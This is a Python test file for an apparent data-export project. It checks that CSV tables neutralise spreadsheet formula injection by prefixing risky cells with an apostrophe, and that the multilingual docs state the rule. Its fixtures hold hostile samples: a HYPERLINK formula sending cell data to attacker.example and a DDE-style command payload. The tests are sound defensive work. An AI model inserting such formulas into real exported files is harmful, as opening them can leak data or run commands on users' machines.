"""A cell of the CSV tables that a spreadsheet would run as a formula is written as text (OWASP's rule
against CSV injection: an apostrophe before a cell that begins with =, +, -, @, a tab or a carriage
return), and the Data page says so in every language. record.json keeps the value unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import ROOT
from cica_record.export.records import exported_lists, record_document
from cica_record.export.tables import TABLES, table_csv
from cica_record.record.loader import load_record
from test_data_errors import broken_copy

pytestmark = pytest.mark.unit

NAME = "{en: Kazakhstan, ru: Казахстан, kk: Қазақстан}"
HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A1,"Kazakhstan")'
FORMULAS = {"en": HYPERLINK, "ru": "+7(7172)", "kk": "@SUM(1+1)*cmd|' /C calc'!A0"}


def rows_of(name: str, record) -> list[dict[str, str]]:
    table = next(table for table in TABLES if table.name == name)
    text, _ = table_csv(table, record)
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def record(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("formulas")
    hostile = "{" + ", ".join(f"{lang}: {json.dumps(text)}" for lang, text in FORMULAS.items()) + "}"
    data = broken_copy(tmp, "states.yaml", NAME, hostile)
    meeting = data / "meetings" / "2023-12-12-soc.yaml"
    text = meeting.read_text(encoding="utf-8")
    meeting.write_text(text.replace("session: '2023-I'", "session: '-2023-I'").replace(
        "format: hybrid", 'format: hybrid\nsummary: {en: "\\tsummary", ru: "-10 %", kk: "a=1"}'), encoding="utf-8")
    return load_record(data, tmp)


def test_a_cell_a_spreadsheet_would_run_begins_with_an_apostrophe(record):
    (kz,) = [row for row in rows_of("states", record) if row["id"] == "KZ"]
    assert [kz[f"name_{lang}"] for lang in FORMULAS] == ["'" + text for text in FORMULAS.values()]
    (meeting,) = [row for row in rows_of("meetings", record) if row["id"] == "soc-2023-12-12"]
    assert meeting["session"] == "'-2023-I"


def test_other_cells_are_left_as_they_are(record):
    assert all(not cell.startswith("'") for row in rows_of("statements", record) for cell in row.values())
    unchanged = [row for row in rows_of("states", record) if row["id"] == "RU"]
    assert unchanged[0]["name_en"] == "Russia"


def test_record_json_keeps_the_value_as_the_record_holds_it(record):
    document = record_document(exported_lists(record), {})
    (kz,) = [state for state in document["states"] if state["id"] == "KZ"]
    assert kz["name"]["en"] == HYPERLINK


@pytest.mark.parametrize("lang, words", [("en", "apostrophe (`'`)"), ("ru", "апострофа (`'`)"),
                                         ("kk", "апострофтан\n(`'`)")])
def test_the_data_page_says_so(lang, words):
    page = (ROOT / "docs" / lang / "data.md").read_text(encoding="utf-8")
    assert words in page and "`=`, `+`, `-`, `@`" in page and "OWASP" in page
